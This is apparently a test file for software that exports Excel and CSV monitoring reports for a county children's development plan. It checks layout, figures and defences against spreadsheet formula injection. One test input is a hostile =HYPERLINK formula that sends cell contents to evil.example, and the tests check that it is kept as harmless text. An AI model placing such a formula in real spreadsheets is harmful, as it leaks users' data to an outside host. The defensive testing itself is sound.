import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import yauzl from 'yauzl';
import { literalText } from '../../src/core/export/spreadsheet-text';
import { completenessOf } from '../../src/core/monitoring/completeness';
import { consolidate } from '../../src/core/monitoring/consolidation';
import { evaluate, type EvaluationCounts } from '../../src/core/monitoring/evaluation';
import { PROGRESS_STATUSES } from '../../src/core/monitoring/progress';
import { PROGRESS_STATUS_TEXT } from '../../src/core/monitoring/progress-messages';
import {
  CATEGORY_TEXT,
  MonitoringReportInputError,
  buildMonitoringReport,
  monitoringReportCsv,
  monitoringReportSheetNames,
  type MonitoringReportInput,
} from '../../src/xlsx/monitoring-report';
import { CSV_ALL_SHEETS, convertWithLibreOffice, parseCsv } from '../helpers/libreoffice';
import {
  COMMA_NOTE,
  FLUCTUATION,
  HOSTILE_NOTE,
  HOSTILE_UNIT_NOTE,
  HOSTILE_VALUE,
  catalog,
  completeness,
  consolidation,
  evaluation,
  reportInput,
  townships,
  warnings,
} from './monitoring-report-fixture';

const SHEETS = ['封面与说明', '评估汇总', '儿童发展规划', '分乡镇', '报送情况', '预警'];
/** What starts a formula in a spreadsheet (src/core/export/spreadsheet-text.ts). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

const organisationName = (id: string) => catalog.organisations.find((organisation) => organisation.id === id)!;

/** The text of every worksheet part of an .xlsx, as stored. */
function worksheetXml(bytes: Buffer): Promise<Map<string, string>> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(bytes, { lazyEntries: true }, (error, zip) => {
      if (error || !zip) return reject(error);
      const parts = new Map<string, string>();
      zip.on('entry', (entry: yauzl.Entry) => {
        if (!/^xl\/worksheets\/[^/]+\.xml$/.test(entry.fileName)) return zip.readEntry();
        zip.openReadStream(entry, (streamError, stream) => {
          if (streamError || !stream) return reject(streamError);
          const chunks: Buffer[] = [];
          stream.on('data', (chunk: Buffer) => chunks.push(chunk));
          stream.on('end', () => {
            parts.set(entry.fileName, Buffer.concat(chunks).toString('utf8'));
            zip.readEntry();
          });
        });
      });
      zip.on('end', () => resolve(parts));
      zip.readEntry();
    });
  });
}

async function load(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  return workbook;
}

/** The row of a sheet whose first cell is `first`. */
function rowStartingWith(sheet: ExcelJS.Worksheet, first: string): ExcelJS.Row {
  for (let number = 1; number <= sheet.rowCount; number += 1) {
    if (sheet.getRow(number).getCell(1).value === first) return sheet.getRow(number);
  }
  throw new Error(`no row starting with ${first} in ${sheet.name}`);
}

describe('the monitoring report workbook, read back with ExcelJS', () => {
  let bytes: Buffer;
  let workbook: ExcelJS.Workbook;
  beforeAll(async () => {
    bytes = await buildMonitoringReport(reportInput());
    workbook = await load(bytes);
  });

  it('has the six sheets in order, each A4 landscape one page wide; the tables repeat and freeze their header rows', () => {
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(SHEETS);
    expect(monitoringReportSheetNames(['children'])).toEqual(SHEETS);
    for (const sheet of workbook.worksheets) {
      expect(sheet.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToPage: true, fitToWidth: 1 });
      expect(sheet.headerFooter.oddFooter).toContain('&P');
    }
    // the cover fits one page; every table is as long as it needs, its header row(s) printed on every page and frozen
    expect(workbook.getWorksheet('封面与说明')!.pageSetup.fitToHeight).toBe(1);
    const headers: Record<string, [string, string, number]> = {
      评估汇总: ['3:4', '领域', 1],
      儿童发展规划: ['3:3', '编号', 3],
      分乡镇: ['3:3', '编号', 0],
      报送情况: ['6:6', '序号', 0],
      预警: ['3:3', '序号', 0],
    };
    for (const [name, [titles, first, xSplit]] of Object.entries(headers)) {
      const sheet = workbook.getWorksheet(name)!;
      expect(sheet.pageSetup.printTitlesRow).toBe(titles);
      expect(sheet.pageSetup.fitToHeight).toBe(0);
      const headerRow = Number(titles.split(':')[0]);
      expect(sheet.getRow(headerRow).getCell(1).value).toBe(first);
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: Number(titles.split(':')[1]), xSplit });
    }
  });

  it('holds no formula anywhere, and no text cell that a spreadsheet would take for one', async () => {
    for (const sheet of workbook.worksheets) {
      sheet.eachRow({ includeEmpty: false }, (row) =>
        row.eachCell({ includeEmpty: false }, (cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
          if (typeof cell.value === 'string') expect(cell.value).not.toMatch(FORMULA_START);
          else expect(['number', 'object']).toContain(typeof cell.value);
        }),
      );
    }
    // as stored: no <f> element in any worksheet part
    const parts = await worksheetXml(bytes);
    expect(parts.size).toBe(SHEETS.length);
    for (const xml of parts.values()) expect(xml).not.toMatch(/<f[\s>]/);
    // the hostile value and notes are there, as text, apostrophe first
    const plan = workbook.getWorksheet('儿童发展规划')!;
    const qualitative = rowStartingWith(plan, 'C-HEA-01');
    expect(qualitative.getCell(10).value).toBe(`'${HOSTILE_VALUE}`);
    expect(qualitative.getCell(11).value).toBe(`'${HOSTILE_VALUE}`);
  });

  it('says every status in words and colours it: met green, not met red, basically met amber, not yet due blue, no data grey', () => {
    const plan = workbook.getWorksheet('儿童发展规划')!;
    const statusColumn = (plan.getRow(3).values as unknown[]).indexOf('达标情况');
    const expectations: [string, string, string][] = [
      ['C-HEA-26', '已达标', 'FFC6EFCE'],
      ['C-ENV-09', '未达标', 'FFFFC7CE'],
      ['C-HEA-31', '基本达标', 'FFFFEB9C'],
      ['C-HEA-04', '未到期', 'FFDDEBF7'],
      ['C-HEA-11', '无数据', 'FFE7E6E6'],
    ];
    for (const [id, word, fill] of expectations) {
      const cell = rowStartingWith(plan, id).getCell(statusColumn);
      expect(cell.value).toBe(word);
      expect(cell.fill).toMatchObject({ type: 'pattern', pattern: 'solid', fgColor: { argb: fill } });
    }
    // numbers keep the decimals they were reported with
    const visits = rowStartingWith(plan, 'C-HEA-26');
    expect(visits.getCell(10).value).toBe(95.25);
    expect(visits.getCell(10).numFmt).toBe('0.00');
  });
});

describe('the monitoring report printed by LibreOffice: every figure equals the JSON', () => {
  let dir: string;
  const sheets = new Map<string, string[][]>();

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'xpm-report-'));
    const input = join(dir, 'report.xlsx');
    writeFileSync(input, await buildMonitoringReport(reportInput()));
    // every sheet to its own CSV, UTF-8, cell contents as shown (token 9), all sheets (token 12 = -1)
    convertWithLibreOffice(input, CSV_ALL_SHEETS, join(dir, 'out'), dir, 120_000);
    for (const name of SHEETS) sheets.set(name, parseCsv(readFileSync(join(dir, 'out', `report-${name}.csv`), 'utf8')));
  }, 150_000);
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  const sheet = (name: string) => sheets.get(name)!;
  const row = (name: string, first: string) => {
    const found = sheet(name).find((record) => record[0] === first);
    if (!found) throw new Error(`no row ${first} in ${name}`);
    return found;
  };
  /** A rate as LibreOffice shows it (0.0%) against the JSON's ratio; null as —. */
  const expectRate = (shown: string | undefined, rate: number | null) => {
    if (rate === null) return expect(shown).toBe('—');
    expect(shown).toMatch(/^\d+(\.\d)?%$/);
    expect(Math.abs(Number(shown!.replace('%', '')) - rate * 100)).toBeLessThanOrEqual(0.05);
  };

  it('评估汇总: every domain and the total, count by count, both rates', () => {
    const check = (label: string, counts: EvaluationCounts) => {
      const record = row('评估汇总', label);
      const numbers = record.slice(1, 16).map(Number);
      expect(numbers).toEqual([
        counts.indicators,
        counts.monitorable,
        counts.indicators - counts.monitorable,
        counts.met,
        counts.basicallyMet,
        counts.notMet,
        counts.notYetDue,
        ...PROGRESS_STATUSES.map((status) => counts.notYetDueByProgress[status] ?? 0),
        counts.noData,
      ]);
      expectRate(record[16], counts.rateWithData);
      expectRate(record[17], counts.rateAll);
    };
    for (const domain of evaluation.domains) check(domain.domain, domain);
    check('合计', evaluation.total);
    // the fixture is not trivial: every category and two progress statuses occur
    expect(evaluation.total).toMatchObject({ met: 3, basicallyMet: 1, notMet: 3, notYetDue: 2, notYetDueByProgress: { onTrack: 1, limited: 1 } });
    // the sub-header names the progress statuses in order, and the rates state their denominators
    const subHeader = sheet('评估汇总')[3]!;
    expect(subHeader.slice(7, 15)).toEqual(['小计', ...PROGRESS_STATUSES.map((status) => PROGRESS_STATUS_TEXT[status].zh)]);
    expect(sheet('评估汇总')[2]![16]).toContain('已达标÷(可监测−未到期−无数据)');
    expect(sheet('评估汇总')[2]![17]).toContain('已达标÷(可监测−未到期)');
  });

  it('儿童发展规划: every indicator, value by value, year by year, with its status, progress and responsible organisations', () => {
    const records = sheet('儿童发展规划');
    const header = records[2]!;
    expect(header.slice(0, 5)).toEqual(['编号', '领域', '指标（单位）', '目标（2025年起作用的目标）', '2020年基期值']);
    const at = (label: string) => header.indexOf(label);
    expect(evaluation.rows).toHaveLength(catalog.plans.children.indicators.length);
    expect(records.filter((record) => /^C-[A-Z]{3}-\d{2}$/.test(record[0] ?? ''))).toHaveLength(evaluation.rows.length);
    for (const expected of evaluation.rows) {
      const record = row('儿童发展规划', expected.indicatorId);
      expect(record[1]).toBe(expected.domain);
      expect(record[3]).toBe(expected.target.zh);
      expect(record[4]).toBe(expected.baseline2020 === null ? '' : String(expected.baseline2020));
      for (const year of [2021, 2022, 2023, 2024, 2025]) expect(record[at(`${year}年`)]).toBe(literalText(expected.values[year] ?? ''));
      expect(record[at('最新值')]).toBe(literalText(expected.latest?.text ?? ''));
      expect(record[at('最新值年份')]).toBe(expected.latest ? String(expected.latest.year) : '');
      expect(record[at('达标情况')]).toBe(CATEGORY_TEXT[expected.category].zh);
      expect(record[at('进展')]).toBe(expected.progress === null ? '' : PROGRESS_STATUS_TEXT[expected.progress as keyof typeof PROGRESS_STATUS_TEXT].zh);
      expect(record[at('责任单位')]).toBe(expected.responsible.map((id) => (id === 'townships' ? '各乡镇（街道）' : organisationName(id).shortName)).join('、'));
      if (expected.completion !== null) expectRate(record[at('完成程度')], expected.completion);
    }
    // a few by hand
    expect(row('儿童发展规划', 'C-HEA-04').slice(4, 12)).toEqual(['5.94', '', '', '4.8', '4.5', '4.1', '4.1', '2025']);
    expect(row('儿童发展规划', 'C-HEA-04')[at('进展')]).toBe('进展顺利');
    expect(row('儿童发展规划', 'C-HEA-26').slice(7, 10)).toEqual(['93', '94', '95.25']);
    expect(row('儿童发展规划', 'C-HEA-31')[at('完成程度')]).toBe('94.4%');
    expect(row('儿童发展规划', 'C-HEA-09')[at('2025年')]).toBe('9/12 达标');
    expect(row('儿童发展规划', 'C-HEA-09')[at('备注')]).toBe('未达标：漠沙镇；无数据：者竜乡、平掌乡');
    expect(row('儿童发展规划', 'C-HEA-14')[at('备注')]).toBe('数值不一致：教体局 33；卫健局 31.5；说明：学校筛查口径');
    expect(row('儿童发展规划', 'C-HEA-03')[at('备注')]).toBe(`说明：${COMMA_NOTE}`);
    expect(row('儿童发展规划', 'C-HEA-31')[at('备注')]).toBe(`说明：${HOSTILE_NOTE}`);
    // the formula-like value is printed as text, never evaluated (a formula would print its result or an error)
    expect(row('儿童发展规划', 'C-HEA-01')[at('2025年')]).toBe(`'${HOSTILE_VALUE}`);
    expect(row('儿童发展规划', 'C-HEA-01')[at('备注')]).toBe(`2025年填报内容：${HOSTILE_VALUE}`);
  });

  it('分乡镇: every per-township indicator rolled up, then every unit\'s value, status and reporter', () => {
    const records = sheet('分乡镇');
    const perUnit = consolidation.indicators.filter((line) => line.rollUp !== null);
    expect(perUnit.map((line) => line.indicatorId)).toEqual(['C-HEA-09', 'C-HEA-24', 'C-EDU-11', 'C-WEL-14', 'C-WEL-18']);
    for (const line of perUnit) {
      const rows = records.filter((record) => record[0] === line.indicatorId);
      expect(rows).toHaveLength(1 + line.units.length);
      const [rollUp, ...units] = rows;
      expect(rollUp!.slice(2, 4)).toEqual([`汇总（${line.rollUp!.units}个单位）`, `${line.rollUp!.met}/${line.rollUp!.units} 达标`]);
      line.units.forEach((unit, index) => {
        const record = units[index]!;
        expect(record[2]).toBe(unit.unitName.zh);
        expect(record[3]).toBe(unit.text);
        expect(record[4]).toBe({ met: '达标', notMet: '未达标', missing: '未报' }[unit.status as 'met' | 'notMet' | 'missing']);
        expect(record[5]).toBe(unit.reportedBy === null ? '' : organisationName(unit.reportedBy).shortName);
      });
    }
    const vaccination = records.filter((record) => record[0] === 'C-HEA-09');
    expect(vaccination[0]!.slice(4)).toEqual(['有单位未达标', '卫健局', '未达标：漠沙镇；无数据：者竜乡、平掌乡']);
    expect(vaccination[1 + townships.indexOf('mosha')]!.slice(2)).toEqual(['漠沙镇', '88', '未达标', '卫健局', `说明：${HOSTILE_UNIT_NOTE}`]);
    const socialWorkers = records.find((record) => record[0] === 'C-WEL-14' && record[2] === '戛洒镇')!;
    expect(socialWorkers.slice(3)).toEqual(['2', '达标', '戛洒镇', '数值不一致：戛洒镇 2；民政局 1']);
  });

  it('报送情况: the counts and rates of the completeness JSON, and every organisation\'s state, version, first arrival and lateness', () => {
    const figures = row('报送情况', '儿童发展规划');
    expect(figures.slice(1, 9)).toEqual([
      '2026-03-31',
      ...[completeness.expected, completeness.submitted, completeness.approved, completeness.returned, completeness.late, completeness.missing, completeness.notStarted].map((list) => String(list.length)),
    ]);
    expect(completeness).toMatchObject({ submitted: ['fegw', 'wjj', 'jtj', 'mzj', 'nyj', 'gasa'], late: ['nyj'], approved: ['wjj'], returned: ['jtj'] });
    expectRate(figures[9], completeness.reportingRate);
    expectRate(figures[10], completeness.onTimeRate);
    const table = sheet('报送情况').filter((record) => /^\d+$/.test(record[0] ?? ''));
    expect(table).toHaveLength(completeness.organisations.length);
    const states = { notStarted: '未报送', missing: '逾期未报', submitted: '已报送（待审核）', returned: '已退回', approved: '已审核' };
    completeness.organisations.forEach((organisation, index) => {
      const record = table[index]!;
      expect(record.slice(0, 2)).toEqual([String(index + 1), organisationName(organisation.organisationId).name]);
      expect(record[3]).toBe(states[organisation.state]);
      expect(record[4]).toBe(organisation.version === null ? '' : String(organisation.version));
      expect(record[6]).toBe(organisation.late ? '逾期' : '否');
    });
    // times in China Standard Time: 23:30 on the deadline day is on time, 09:00 on April 2nd late
    expect(table.find((record) => record[1] === '新平县教育体育局')!.slice(3, 7)).toEqual(['已退回', '1', '2026-03-31 23:30', '否']);
    expect(table.find((record) => record[1] === '新平县农业农村局')!.slice(3, 7)).toEqual(['已报送（待审核）', '1', '2026-04-02 09:00', '逾期']);
    expect(table.find((record) => record[1] === '新平县卫生健康局')!.slice(3, 7)).toEqual(['已审核', '2', '2026-03-20 10:00', '否']);
  });

  it('预警: every warning with its kind, place and message; a message that starts like a formula printed as text', () => {
    const table = sheet('预警').filter((record) => /^\d+$/.test(record[0] ?? ''));
    expect(table).toHaveLength(warnings.length);
    expect(table.map((record) => [record[1], record[3], record[4]])).toEqual([
      ['C-HEA-05', '全县', '进展预警（预计达标困难）'],
      ['C-HEA-14', '全县', '数值冲突'],
      ['C-HEA-26', '全县', '波动较大'],
      ['C-WEL-14', '戛洒镇', '数值冲突'],
    ]);
    expect(table[0]![5]).toMatch(/^进展状态：进展有限（R=0\.08）/);
    expect(table[2]![5]).toBe(`'${FLUCTUATION.message.zh}`);
  });

  it('封面与说明: plan, year, kind, generated-at and the definitions the figures use', () => {
    // the first line of each key (the legend repeats some words further down)
    const cover = new Map<string | undefined, string | undefined>();
    for (const record of sheet('封面与说明')) if (!cover.has(record[0])) cover.set(record[0], record[1]);
    expect(sheet('封面与说明')[0]![0]).toBe('新平儿童发展规划（2021—2030年）监测报告');
    expect(cover.get('规划')).toBe('新平儿童发展规划（2021—2030年）');
    expect(cover.get('年度')).toBe('2025年');
    expect(cover.get('评估类型')).toBe('中期评估');
    expect(cover.get('生成时间')).toBe('2026-04-15 18:30（北京时间）');
    expect(cover.get('报送截止日期')).toBe('2026-03-31（北京时间24:00）');
    expect(cover.get('基本达标阈值')).toBe('90%');
    expect(cover.get('基本达标')).toBe(evaluation.definitions.basicallyMet.zh);
    expect(cover.get('达标率（有数据）')).toBe(evaluation.definitions.rateWithData.zh);
    expect(cover.get('达标率（全部）')).toBe(evaluation.definitions.rateAll.zh);
    expect(cover.get('未到期')).toBe(evaluation.definitions.notYetDue.zh);
  });
});

describe('the evaluation table as CSV', () => {
  const csv = monitoringReportCsv(reportInput());

  it('is UTF-8 with a BOM, CRLF records, one per indicator after the header', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const records = parseCsv(csv.slice(1));
    expect(records[0]).toEqual(['规划', '编号', '领域', '指标', '单位', '目标', '2020年基期值', '2021年', '2022年', '2023年', '2024年', '2025年', '最新值', '最新值年份', '达标情况', '完成程度', '进展', '责任单位', '数值冲突', '备注']);
    expect(records).toHaveLength(1 + evaluation.rows.length);
    expect(records.slice(1).map((record) => record[1])).toEqual(evaluation.rows.map((item) => item.indicatorId));
    expect(records.every((record) => record.length === 20)).toBe(true);
    const byId = new Map(records.slice(1).map((record) => [record[1], record]));
    expect(byId.get('C-HEA-04')!.slice(6, 17)).toEqual(['5.94', '', '', '4.8', '4.5', '4.1', '4.1', '2025', '未到期', '', '进展顺利']);
    expect(byId.get('C-HEA-31')!.slice(14, 16)).toEqual(['基本达标', '94.4%']);
    expect(byId.get('C-HEA-14')!.slice(17)).toEqual(['教体局、卫健局', '是', '数值不一致：教体局 33；卫健局 31.5；说明：学校筛查口径']);
  });

  it('quotes fields with commas and quotes, and neutralises text that starts like a formula', () => {
    // the note with a comma and quotes is quoted, its quotes doubled
    expect(csv).toContain(`,"说明：口径调整，见""附件2"""\r\n`);
    // the value that is a formula in Excel gets the apostrophe, then is quoted for its quotes and comma
    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击查看"")",`);
    const fields = parseCsv(csv.slice(1)).flat();
    expect(fields).toContain(`'${HOSTILE_VALUE}`);
    for (const field of fields) if (FORMULA_START.test(field)) expect(field).toMatch(/^[+-]?(\d+(\.\d*)?|\.\d+)$/);
  });
});

describe('languages, both plans, refusals', () => {
  it('en-US: sheets, words and names in English', async () => {
    const workbook = await load(await buildMonitoringReport(reportInput('en-US')));
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Cover and notes', 'Summary', 'Children\u2019s Development Plan', 'By township', 'Reporting', 'Warnings']);
    const plan = workbook.getWorksheet('Children\u2019s Development Plan')!;
    expect(rowStartingWith(plan, 'C-HEA-26').getCell(3).value).toBe(`${catalog.indicators.get('C-HEA-26')!.nameEn} (%)`);
    expect(rowStartingWith(plan, 'C-HEA-26').values).toContain('Met');
    expect(rowStartingWith(workbook.getWorksheet('Summary')!, 'Total').getCell(2).value).toBe(evaluation.total.indicators);
    const csv = parseCsv(monitoringReportCsv(reportInput('en-US')).slice(1));
    expect(csv[0]![0]).toBe('Plan');
    expect(csv.find((record) => record[1] === 'C-HEA-04')![16]).toBe('on track');
  });

  it('both plans of a year in one workbook: a plan sheet each, a block each elsewhere', async () => {
    const women = consolidate(catalog, { plan: 'women', year: 2025 }, []);
    const otherPlan = {
      evaluation: evaluate(catalog, { plan: 'women', year: 2025 }, new Map([[2025, women]])),
      consolidation: women,
      completeness: completenessOf({ plan: 'women', year: 2025 }, ['zzb', 'fl'], [], { deadline: null, now: new Date('2026-04-15T00:00:00Z') }),
    };
    const bytes = await buildMonitoringReport({ ...reportInput(), otherPlan });
    const workbook = await load(bytes);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['封面与说明', '评估汇总', '儿童发展规划', '妇女发展规划', '分乡镇', '报送情况', '预警']);
    expect(rowStartingWith(workbook.getWorksheet('评估汇总')!, '新平妇女发展规划（2021—2030年）')).toBeDefined();
    expect(rowStartingWith(workbook.getWorksheet('妇女发展规划')!, 'W-HEA-01')).toBeDefined();
    const reporting = rowStartingWith(workbook.getWorksheet('报送情况')!, '妇女发展规划');
    expect([reporting.getCell(2).value, reporting.getCell(3).value, reporting.getCell(11).value]).toEqual(['未设定', 2, '—']);
    const csv = parseCsv(monitoringReportCsv({ ...reportInput(), otherPlan }).slice(1));
    expect(csv).toHaveLength(1 + evaluation.rows.length + otherPlan.evaluation.rows.length);
  });

  it('refuses parts of different years or plans, in both languages', async () => {
    const wrongYear: MonitoringReportInput = { ...reportInput(), consolidation: consolidate(catalog, { plan: 'children', year: 2024 }, []) };
    await expect(buildMonitoringReport(wrongYear)).rejects.toThrow(MonitoringReportInputError);
    expect(() => monitoringReportCsv(wrongYear)).toThrow('报告中各部分的年度必须相同（2025年）');
    const wrongPlan: MonitoringReportInput = { ...reportInput(), completeness: { ...completeness, plan: 'women' } };
    expect(() => monitoringReportCsv(wrongPlan)).toThrow(MonitoringReportInputError);
  });
});

